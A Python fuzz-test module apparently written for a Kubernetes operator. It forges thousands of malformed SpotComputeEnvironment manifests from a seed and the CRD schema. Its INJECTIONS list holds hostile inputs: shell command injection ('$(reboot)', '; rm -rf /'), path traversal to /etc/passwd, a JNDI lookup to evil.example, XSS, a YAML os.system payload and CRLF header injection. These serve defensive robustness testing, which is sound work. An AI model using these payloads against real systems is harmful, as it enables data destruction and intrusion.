"""Manifests that nobody in his right mind would apply, by the ten thousand, from a seed and the schema of our CRD.

Each begins as a manifest that is right, and is spoilt in one to three places: by values at and beyond the bounds of the
schema, of other types, or with words that mean something to a shell, a template, a path, a log or the cloud. Bytes come
out, not objects: numbers that no parser of ours would write, and keys given twice, are part of it.
"""

from __future__ import annotations

import copy
import json
import random
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from itertools import pairwise
from pathlib import Path
from typing import Any

import yaml

ROOT = Path(__file__).resolve().parents[2]
CRD = ROOT / "crds" / "spotcompute.dev_spotcomputeenvironments.yaml"

Node = dict[str, Any]
Place = tuple[str | int, ...]

#: Words that mean something to somebody.
INJECTIONS = (
    "{R:1}",
    "{IP}",
    "web{R:3}${IFS}",
    "$(reboot)",
    "`reboot`",
    "; rm -rf /",
    "' OR 1=1 --",
    "../../../etc/passwd",
    "..",
    ".",
    "/",
    "a/b",
    "a%2fb",
    "%00",
    "x\nlevel=error injected=yes",
    "x\r\nHost: evil.example",
    "\x1b[2J\x1b[31mred",
    "{{ .Values.secret }}",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "!!python/object/apply:os.system [reboot]",
    "&a [*a,*a]",
    "%s%s%s%n",
    "{0.__class__}",
    "evil.example",
    "ap-guangzhou.evil.example",
    "169.254.0.23",
    "-rf",
    "--help",
    "null",
    "true",
    "~",
    "0x10",
    "1e3",
    "NaN",
    "Infinity",
    "١٢٣",
    "",
    " ",
    "\t",
    "\u0000",
    "\u202e gnp.exe",
    "\ufeffweb",
    "a\u0301" * 20,
    "👩‍👩‍👧‍👦" * 8,
    "İstanbul",
    "ﬀ",
    "\ud800",
    "img-" + "0" * 60,
    "ins-00000000",
)

#: JSON that is put in place of a value as it stands.
RAW_NUMBERS = ("1e400", "-1e400", "1E+2", "-0", "0.1", "9223372036854775807", "9223372036854775808", "1" * 400, "2.0")
RAW_VALUES = (*RAW_NUMBERS, "null", "[]", "{}", '""', "true", "[null]", "[[[[[]]]]]", '{"": ""}', '{"$ref": "#"}')

#: What the API server itself would take for a field of ours, or of its own.
METADATA: tuple[tuple[str, Any], ...] = (
    ("name", "x" * 64),
    ("name", "x" * 254),
    ("name", "Web"),
    ("name", "a..b"),
    ("name", "../secrets/tencent"),
    ("name", "web\n"),
    ("name", None),
    ("name", 7),
    ("generateName", "web-"),
    ("namespace", "kube-system"),
    ("namespace", "../default"),
    ("uid", "00000000-0000-0000-0000-000000000000"),
    ("resourceVersion", "1"),
    ("generation", 99),
    ("deletionTimestamp", "2026-01-01T00:00:00Z"),
    ("finalizers", ["spotcompute.dev/instances"]),
    ("finalizers", ["kubernetes.io/pvc-protection", "x"]),
    ("finalizers", ["a"] * 1000),
    ("ownerReferences", [{"apiVersion": "v1", "kind": "Namespace", "name": "default", "uid": "x"}]),
    ("labels", {"a" * 64: "b"}),
    ("labels", {"a": "b" * 64}),
    ("labels", {"a": "\n"}),
    ("annotations", {"spotcompute.dev/environment-id": "default.first-000000"}),
    ("annotations", {"spotcompute.dev/environment-id": "../x\n"}),
    ("annotations", {"spotcompute.dev/environment-id": "x" * 100_000}),
    ("annotations", {"kubectl.kubernetes.io/last-applied-configuration": "{"}),
    ("annotations", {"a": "b" * 300_000}),
    ("managedFields", [{"manager": "x", "operation": "Apply"}]),
)

_PLACEHOLDER = "@raw:{}@"


@dataclass(frozen=True, slots=True)
class Manifest:
    """`label` says what was spoilt, in words; `body` is what is sent."""

    number: int
    label: str
    name: str
    body: bytes


def spec_schema() -> Node:
    """The schema of `spec`, from the CRD that is installed."""
    definition = yaml.safe_load(CRD.read_text())
    (version,) = definition["spec"]["versions"]
    schema: Node = version["schema"]["openAPIV3Schema"]["properties"]["spec"]
    return schema


class Forge:
    """Makes manifests: the same seed and bases make the same ones."""

    def __init__(self, seed: int, bases: Mapping[str, Node], schema: Node | None = None) -> None:
        """`bases` are specs that are right, by name; each manifest begins as one of them."""
        self._seed = seed
        self._bases = dict(bases)
        self._schema = schema or spec_schema()

    def manifests(self, count: int, first: int = 0) -> Iterator[Manifest]:
        """Manifests `first` to `first + count - 1`; each depends on the seed and its number alone."""
        for number in range(first, first + count):
            yield self._manifest(number)

    def _manifest(self, number: int) -> Manifest:
        rng = random.Random(f"{self._seed}/{number}")
        kind, base = rng.choice(sorted(self._bases.items()))
        name = f"hostile-{number}"
        obj: Node = {
            "apiVersion": "spotcompute.dev/v1alpha1",
            "kind": "SpotComputeEnvironment",
            "metadata": {"name": name},
            "spec": copy.deepcopy(base),
        }
        raws: list[str] = []
        labels = [self._spoil(obj, rng, raws) for _ in range(rng.choice((1, 1, 1, 2, 3)))]
        text = json.dumps(obj)
        for index, raw in enumerate(raws):
            text = text.replace(json.dumps(_PLACEHOLDER.format(index)), raw)
        if rng.random() < 0.03:
            text, label = _broken(text, rng)
            labels.append(label)
        sent = obj["metadata"].get("name") if isinstance(obj["metadata"], dict) else None
        return Manifest(
            number, f"{kind}: {'; '.join(labels)}", str(sent or name), text.encode("utf-8", "surrogatepass")
        )

    def _spoil(self, obj: Node, rng: random.Random, raws: list[str]) -> str:
        if rng.random() < 0.1:
            key, value = rng.choice(METADATA)
            obj["metadata"][key] = value
            return f"metadata.{key}"
        if rng.random() < 0.03:
            obj[rng.choice(("status", "kind", "apiVersion", "spec", "metadata2"))] = (
                rng.choice(({"ledger": {"sequence": -1}}, "List", None, [], {"replicas": 10**6})) or {}
            )
            return "the object itself"
        path, schema = rng.choice(list(_places(self._schema, obj["spec"] if isinstance(obj["spec"], dict) else {})))
        spoilers: list[tuple[str, Callable[[], Any]]] = [
            *_within(schema, rng),
            ("of another type", lambda: _raw(rng.choice(RAW_VALUES), raws)),
            ("injected", lambda: rng.choice(INJECTIONS)),
            ("unknown field beside it", lambda: _UNKNOWN),
            ("left out", lambda: _GONE),
            ("very deep", lambda: _raw("[" * 200 + "]" * 200, raws)),
        ]
        what, make = rng.choice(spoilers)
        value = make()
        if isinstance(obj["spec"], dict):
            _put(obj["spec"], path, value, rng)
        return f"spec.{'.'.join(map(str, path))} {what}"


class _Marker:
    """A value that means an edit, not a value."""


_GONE, _UNKNOWN = _Marker(), _Marker()


def _raw(text: str, raws: list[str]) -> str:
    raws.append(text)
    return _PLACEHOLDER.format(len(raws) - 1)


def _places(schema: Node, value: Any, path: Place = ()) -> Iterator[tuple[Place, Node]]:
    """Every place the schema knows; inside lists and maps, those that `value` has, and one more."""
    for key, inner in schema.get("properties", {}).items():
        at = (*path, key)
        yield at, inner
        yield from _places(inner, value.get(key) if isinstance(value, dict) else None, at)
    if isinstance(schema.get("items"), dict):
        length = len(value) if isinstance(value, list) else 0
        for index in range(length + 1):
            at = (*path, index)
            yield at, schema["items"]
            yield from _places(schema["items"], value[index] if index < length else None, at)
    if isinstance(schema.get("additionalProperties"), dict):
        for key in [*(value if isinstance(value, dict) else ()), "new-key", "tencent:x", "x" * 130, "ü", ""]:
            yield (*path, key), schema["additionalProperties"]


def _within(schema: Node, rng: random.Random) -> list[tuple[str, Callable[[], Any]]]:
    """Values at the schema's bounds, and just beyond them."""
    kind = schema.get("type")
    if kind == "integer":
        low, high = schema.get("minimum", 0), schema.get("maximum", 2**31 - 1)
        numbers = (low, high, low - 1, high + 1, -(2**31), 2**31, 2**63 - 1, 2**53 + 1)
        return [("at a bound", lambda: rng.choice(numbers)), ("any number", lambda: rng.randint(low, high))]
    if kind == "string":
        longest = schema.get("maxLength", 256)
        letters = rng.choice(("x", "9", "ü", "界", " ", "-", "\U0001f600"))
        lengths = (0, 1, longest - 1, longest, longest + 1, 100_000)
        choices = [("of an odd length", lambda: letters * rng.choice(lengths))]
        if "enum" in schema:
            choices.append(("of another case", lambda: rng.choice(schema["enum"]).lower()))
            choices.append(("another of its values", lambda: rng.choice(schema["enum"])))
        if any("decimal" in str(rule.get("message", "")) for rule in schema.get("x-kubernetes-validations", ())):
            prices = ("0", "0.0", "00.1", "-1", "+1", ".5", "5.", "1e-3", "0,1", "1" * 32, "0." + "0" * 28 + "1", "٠.١")
            choices.append(("an odd price", lambda: rng.choice(prices)))
        return choices
    if kind == "array":
        most = schema.get("maxItems", 10)
        return [("too many, all alike", lambda: _Repeated(rng.choice((most, most + 1, 2000)))), ("emptied", list)]
    if kind == "object":
        return [("emptied", dict), ("with many keys", lambda: {f"key-{index}": "x" for index in range(500)})]
    return [("turned", lambda: rng.choice((True, False, "true", 1)))]


@dataclass(frozen=True, slots=True)
class _Repeated:
    """Stands for the first item of the list there, so often."""

    count: int


def _put(spec: Node, path: Place, value: Any, rng: random.Random) -> None:
    """Put `value` at `path`, making what is missing on the way; gives up where a scalar stands in the way."""
    here: Any = spec
    for key, following in pairwise(path):
        fresh: Any = [] if isinstance(following, int) else {}
        if isinstance(here, list):
            if not isinstance(key, int):
                return
            while len(here) <= key:
                here.append(copy.deepcopy(here[-1]) if here else fresh)
            here = here[key]
        elif isinstance(here, dict):
            here = here.setdefault(key, fresh)
        else:
            return
    last = path[-1]
    if isinstance(here, list) and isinstance(last, int):
        if isinstance(value, (_Marker, _Repeated)):
            here.clear()
        else:
            here[last:] = [value]
    elif isinstance(here, dict):
        if value is _GONE:
            here.pop(last, None)
        elif value is _UNKNOWN:
            here[f"{last}{rng.choice(('s', 'X', '.x', ' '))}"] = rng.choice(("x", 1, {}, None))
        elif isinstance(value, _Repeated):
            before = here.get(last)
            item = before[0] if isinstance(before, list) and before else "x"
            here[last] = [copy.deepcopy(item) for _ in range(value.count)]
        else:
            here[last] = value


def _broken(text: str, rng: random.Random) -> tuple[str, str]:
    """Not the JSON it was, or none at all."""
    ways: list[tuple[str, Callable[[], str]]] = [
        ("cut off", lambda: text[: rng.randrange(len(text))]),
        ("a key twice", lambda: text.replace('"spec": {', '"spec": {"replicas": 1, "replicas": 2, ', 1)),
        ("an object twice", lambda: text[:-1] + ', "spec": {"region": "ap-guangzhou"}}'),
        ("with a mark of byte order", lambda: "\ufeff" + text),
        ("two documents", lambda: text + text),
        ("huge", lambda: text[:-1] + ', "x": "' + "y" * 4_000_000 + '"}'),
        ("deep", lambda: text[:-1] + ', "x": ' + "[" * 20_000 + "]" * 20_000 + "}"),
        ("in a list", lambda: f'{{"apiVersion": "v1", "kind": "List", "items": [{text}]}}'),
    ]
    label, make = rng.choice(ways)
    return make(), label


def bases(zones: tuple[str, ...], image: str, secret: str) -> dict[str, Node]:
    """Specs that are right, in a world with those zones: between them they use every field."""
    least = {
        "region": zones[0].rpartition("-")[0],
        "replicas": 1,
        "placements": [{"zone": zones[0]}],
        "instanceTypes": ["S5.MEDIUM4"],
        "template": {"imageId": image},
        "credentialsSecretRef": {"name": secret},
    }
    template = {
        "imageId": image,
        "instanceName": "worker",
        "hostName": "worker",
        "systemDisk": {"diskType": "CLOUD_PREMIUM", "diskSize": 50},
        "dataDisks": [{"diskType": "CLOUD_PREMIUM", "diskSize": 100}],
        "userData": "#!/bin/sh\necho hello\n",
        "internetAccessible": {"internetChargeType": "TRAFFIC_POSTPAID_BY_HOUR", "internetMaxBandwidthOut": 1},
        "enhancedService": {"securityService": True, "monitorService": True, "automationService": False},
        "projectId": 0,
        "tags": {"team": "render", "stage": "test"},
    }
    market = {
        "maxPrice": "0.05",
        "maxPricePercentOfOnDemand": 90,
        "overrides": [{"instanceType": "S5.MEDIUM4", "maxPrice": "0.04"}],
        "allocationStrategy": "PriceCapacityOptimized",
        "zonePolicy": "Balanced",
        "maxSharePerPool": 60,
    }
    required = {"cpu": {"min": 2, "max": 4}, "memoryGiB": {"min": 4}, "gpu": {"max": 0}, "families": ["S5", "S2"]}
    return {
        "least": least,
        "whole": {
            **least,
            "placements": [{"zone": zone} for zone in zones],
            "instanceTypes": ["S5.MEDIUM4", "S2.MEDIUM4"],
            "market": market,
            "limits": {"maxHourlyCost": "1"},
            "onDemandFallback": {"afterSeconds": 600, "maxReplicas": 1, "maxHourlyCost": "0.5"},
            "template": template,
        },
        "required": {
            **{key: value for key, value in least.items() if key != "instanceTypes"},
            "instanceRequirements": {**required, "excludedTypes": ["SA2.MEDIUM4"]},
            "market": {"allocationStrategy": "LowestPrice"},
        },
        "gang": {**least, "gang": {"minAvailable": 1, "holdSeconds": 60}, "requestPolicy": "Persistent"},
        "from-a-secret": {
            **least,
            "requestPolicy": "OneTime",
            "template": {"imageId": image, "userDataFrom": {"secretKeyRef": {"name": secret, "key": "secretId"}}},
        },
    }
